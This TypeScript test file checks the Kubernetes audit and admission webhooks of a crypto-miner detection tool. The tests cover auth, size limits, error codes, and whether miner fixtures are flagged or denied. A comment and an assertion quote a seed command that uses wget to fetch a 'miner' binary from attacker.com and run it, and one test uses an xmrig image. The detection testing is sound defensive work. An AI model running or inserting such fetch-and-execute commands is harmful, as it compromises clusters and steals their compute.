/**
 * POST /k8s-audit and POST /admission on a real fastify server on loopback: bodies, tokens, limits
 * and errors; and every fixture (test/fixtures/k8s) alerting with its rules through the audit source
 * and through the admission webhook (allowed with a warning in dryrun, denied in enforce), while
 * ordinary workloads do neither.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { test } from 'node:test';
import { DEFAULT_RULES_FILES, Engine, type Match } from '../src/engine/index.js';
import type { Event } from '../src/events.js';
import { auditWebhookRoutes } from '../src/k8s/audit-webhook.js';
import { k8sRoutes } from '../src/k8s/routes.js';
import { HOOK_AUTH, HOOK_TOKEN, K8S_CASES, OPEN_ADMISSION, fixtureText, post, serve, serveAdmission } from './helpers/k8s.js';
import { K8S_AUDIT_CORPUS } from './helpers/paths.js';

const recorded = (f: string): Record<string, unknown> => JSON.parse(readFileSync(K8S_AUDIT_CORPUS + f, 'utf8'));

test('audit webhook: an EventList, a single Event, v1beta1 or no apiVersion, all reach the sink in order', async (t) => {
  const got: Event[] = [];
  const { app, url } = await serve(auditWebhookRoutes({ sink: (ev) => (got.push(ev), true), token: HOOK_TOKEN }));
  t.after(() => app.close());
  const a = recorded('exec_pod.json');
  const b = recorded('create_deployment.json');
  let r = await post(`${url}/k8s-audit`, JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', metadata: {}, items: [a, b] }), HOOK_AUTH);
  assert.deepEqual([r.status, r.json], [200, { accepted: 2 }]);
  r = await post(`${url}/k8s-audit`, JSON.stringify(recorded('anonymous_creates_namespace_foo.json')), HOOK_AUTH);
  assert.equal(r.status, 200, 'a single v1beta1 Event');
  r = await post(`${url}/k8s-audit`, JSON.stringify(a), { 'content-type': 'text/plain', ...HOOK_AUTH });
  assert.equal(r.status, 200, 'no apiVersion, any content type');
  assert.deepEqual(got.map((e) => (e as { payload: { auditID: string } }).payload.auditID), [a.auditID, b.auditID, '841d3e6d-90d2-43df-8da4-684738bee3d5', a.auditID]);
  assert.ok(got.every((e) => e.source === 'k8s_audit' && e.type === 'Event'));
  assert.equal(got[0]!.ts, 1540561114902914000n);
});

test('audit webhook: 400 for garbage or non-audit JSON, 413 over the size limit, 503 when the queue refuses', async (t) => {
  let room = 1;
  const got: Event[] = [];
  const { app, url } = await serve(auditWebhookRoutes({ sink: (ev) => (room-- > 0 ? (got.push(ev), true) : false), maxBodyBytes: 4096, token: HOOK_TOKEN }));
  t.after(() => app.close());
  let r = await post(`${url}/k8s-audit`, '{"kind": "EventList", "items": [', HOOK_AUTH);
  assert.equal(r.status, 400);
  assert.match(r.json.error, /not valid JSON/);
  r = await post(`${url}/k8s-audit`, '', HOOK_AUTH);
  assert.equal(r.status, 400);
  r = await post(`${url}/k8s-audit`, JSON.stringify({ kind: 'Pod', apiVersion: 'v1' }), HOOK_AUTH);
  assert.equal(r.status, 400);
  assert.match(r.json.error, /not an audit Event or EventList/);
  r = await post(`${url}/k8s-audit`, JSON.stringify({ kind: 'EventList', items: Array(40).fill(recorded('exec_pod.json')) }), HOOK_AUTH);
  assert.equal(r.status, 413);
  assert.match(r.json.error, /larger than 4096 bytes/);
  assert.equal(got.length, 0, 'nothing from a refused body');
  const a = recorded('exec_pod.json');
  r = await post(`${url}/k8s-audit`, JSON.stringify({ kind: 'EventList', items: [a, a] }), HOOK_AUTH);
  assert.equal(r.status, 503);
  assert.equal(r.json.accepted, 1);
  assert.equal(got.length, 1);
});

test('audit webhook: with a token, a missing or wrong bearer token is 401 and the right one passes', async (t) => {
  const got: Event[] = [];
  const { app, url } = await serve(auditWebhookRoutes({ sink: (ev) => (got.push(ev), true), token: 's3cret-token' }));
  t.after(() => app.close());
  const body = JSON.stringify(recorded('exec_pod.json'));
  assert.equal((await post(`${url}/k8s-audit`, body)).status, 401);
  assert.equal((await post(`${url}/k8s-audit`, body, { authorization: 'Bearer s3cret-tokex' })).status, 401);
  assert.equal((await post(`${url}/k8s-audit`, body, { authorization: 'Bearer s3cret' })).status, 401);
  assert.equal((await post(`${url}/k8s-audit`, body, { authorization: 'Basic s3cret-token' })).status, 401);
  assert.equal(got.length, 0);
  assert.equal((await post(`${url}/k8s-audit`, body, { authorization: 'Bearer s3cret-token' })).status, 200);
  assert.equal(got.length, 1);
});

test('every fixture through the audit webhook into the engine fires exactly its rules; ordinary and refused ones none', async (t) => {
  const engine = Engine.fromFiles(DEFAULT_RULES_FILES, { ruleMatching: 'all' });
  let matches: Match[] = [];
  const { app, url } = await serve(auditWebhookRoutes({ sink: (ev) => (matches.push(...engine.process(ev)), true), token: HOOK_TOKEN }));
  t.after(() => app.close());
  assert.ok(K8S_CASES.filter((c) => c.rules.length).length >= 12);
  for (const c of K8S_CASES) {
    matches = [];
    // As the API server sends them: wrapped in an EventList.
    const item = JSON.parse(fixtureText(c.audit));
    const r = await post(`${url}/k8s-audit`, JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: [item] }), HOOK_AUTH);
    assert.equal(r.status, 200);
    assert.deepEqual(matches.map((m) => m.rule).sort(), [...c.rules].sort(), c.name);
    for (const m of matches) {
      assert.equal(m.outputFields['ka.user.name'], c.user, `${c.name}: output names the user`);
      if ('mw.k8s.kind' in m.outputFields) assert.equal(m.outputFields['mw.k8s.kind'], c.kind);
    }
  }
});

test('admission webhook, dryrun: every fixture allowed, with a warning and an alert per rule it fires', async (t) => {
  const alerts: Array<{ rules: string[]; allowed: boolean }> = [];
  const { app, url } = await serveAdmission({ mode: 'dryrun', onMatch: (ms, d) => alerts.push({ rules: ms.map((m) => m.rule), allowed: d.allowed }) });
  t.after(() => app.close());
  for (const c of K8S_CASES.filter((x) => x.admission)) {
    alerts.length = 0;
    const review = JSON.parse(fixtureText(c.admission!));
    const r = await post(`${url}/admission`, JSON.stringify(review), HOOK_AUTH);
    assert.equal(r.status, 200, c.name);
    assert.equal(r.json.apiVersion, 'admission.k8s.io/v1');
    assert.equal(r.json.kind, 'AdmissionReview');
    assert.equal(r.json.response.uid, review.request.uid);
    assert.equal(r.json.response.allowed, true, c.name);
    const warned = (r.json.response.warnings ?? []).map((w: string) => /^minewatch: (.+?): /.exec(w)![1]);
    assert.deepEqual(warned.sort(), [...c.rules].sort(), c.name);
    assert.deepEqual(alerts.flatMap((a) => a.rules).sort(), [...c.rules].sort(), `${c.name}: alerts`);
    for (const w of r.json.response.warnings ?? []) assert.ok(!w.includes('\n') && w.length <= 256);
  }
});

test('admission webhook, enforce: miners denied with the rule output as the reason; ordinary workloads allowed', async (t) => {
  const { app, url } = await serveAdmission({ credential: OPEN_ADMISSION });
  t.after(() => app.close());
  for (const c of K8S_CASES.filter((x) => x.admission)) {
    const r = await post(`${url}/admission`, fixtureText(c.admission!));
    assert.equal(r.status, 200);
    if (c.rules.length === 0) {
      assert.deepEqual(r.json.response, { uid: JSON.parse(fixtureText(c.admission!)).request.uid, allowed: true }, c.name);
      continue;
    }
    assert.equal(r.json.response.allowed, false, c.name);
    assert.equal(r.json.response.status.code, 403);
    const msg: string = r.json.response.status.message;
    assert.match(msg, /^denied by minewatch: /);
    for (const rule of c.rules) assert.ok(msg.includes(`${rule}: `), `${c.name}: ${msg}`);
  }
  // The seed: kubectl run miner --image=alpine --command -- sh -c "wget … && chmod +x miner && ./miner"
  const seed = await post(`${url}/admission`, fixtureText('admission/pod-kubectl-run-miner.json'));
  assert.match(seed.json.response.status.message, /K8s Workload Runs Miner Command: Workload command fetches and runs a program .*user=kubernetes-admin verb=create kind=Pod name=miner ns=default images=\(alpine\) command=\(sh -c wget http:\/\/attacker\.com\/miner && chmod \+x miner && \.\/miner\)/);
});

test('admission webhook: 400 for what is not an admission.k8s.io/v1 AdmissionReview, 413 and tokens as the audit route', async (t) => {
  const { app, url } = await serveAdmission({ credential: { token: 'tok', key: 'k8s.admission.token' }, maxBodyBytes: 2048 });
  t.after(() => app.close());
  const auth = { authorization: 'Bearer tok' };
  const review = JSON.parse(fixtureText('admission/deployment-nginx-with-limits.json'));
  assert.equal((await post(`${url}/admission`, JSON.stringify(review))).status, 401);
  let r = await post(`${url}/admission`, 'garbage', auth);
  assert.equal(r.status, 400);
  r = await post(`${url}/admission`, JSON.stringify({ ...review, apiVersion: 'admission.k8s.io/v1beta1' }), auth);
  assert.equal(r.status, 400);
  assert.match(r.json.error, /admissionReviewVersions: \["v1"\]/);
  r = await post(`${url}/admission`, JSON.stringify({ ...review, request: { ...review.request, uid: undefined } }), auth);
  assert.match(r.json.error, /without request.uid/);
  r = await post(`${url}/admission`, JSON.stringify({ ...review, pad: 'x'.repeat(4096) }), auth);
  assert.equal(r.status, 413);
  r = await post(`${url}/admission`, JSON.stringify(review), auth);
  assert.deepEqual([r.status, r.json.response.allowed], [200, true], 'the ordinary fixture fits and passes');
  const small = { apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', request: { uid: 'u1', operation: 'CREATE', resource: { group: '', version: 'v1', resource: 'pods' }, namespace: 'd', userInfo: { username: 'x' }, object: { kind: 'Pod', spec: { containers: [{ name: 'm', image: 'xmrig/xmrig' }] } } } };
  r = await post(`${url}/admission`, JSON.stringify(small), auth);
  assert.equal(r.status, 200);
  assert.equal(r.json.response.allowed, false);
});

test('k8sRoutes: the config mounts what is enabled, with the token from token_file; a missing token file names its key', async (t) => {
  const dir = mkdtempSync(`${tmpdir()}/mw-k8s-routes-`);
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  writeFileSync(`${dir}/token`, 'from-a-file\n');
  const got: Event[] = [];
  const routes = k8sRoutes(
    { audit: { enabled: true, token_file: `${dir}/token`, max_body_bytes: 1 << 20 }, admission: { enabled: false, mode: 'dryrun', allow_unauthenticated: false, client_names: [], max_body_bytes: 1 << 20, max_in_flight_per_client: 16 } },
    { sink: (ev) => (got.push(ev), true) },
  );
  assert.equal(routes.length, 1);
  const { app, url } = await serve(...routes);
  t.after(() => app.close());
  const body = JSON.stringify(recorded('exec_pod.json'));
  assert.equal((await post(`${url}/k8s-audit`, body, { authorization: 'Bearer from-a-file' })).status, 200);
  assert.equal((await post(`${url}/k8s-audit`, body)).status, 401);
  assert.equal((await post(`${url}/admission`, body)).status, 404, 'admission is off');
  assert.equal(got.length, 1);
  assert.throws(
    () => k8sRoutes({ audit: { enabled: true, token_file: `${dir}/nope`, max_body_bytes: 1024 }, admission: { enabled: false, mode: 'dryrun', allow_unauthenticated: false, client_names: [], max_body_bytes: 1024, max_in_flight_per_client: 16 } }, { sink: () => true }),
    /k8s\.audit\.token_file: cannot read .*nope \(ENOENT\)/,
  );
});
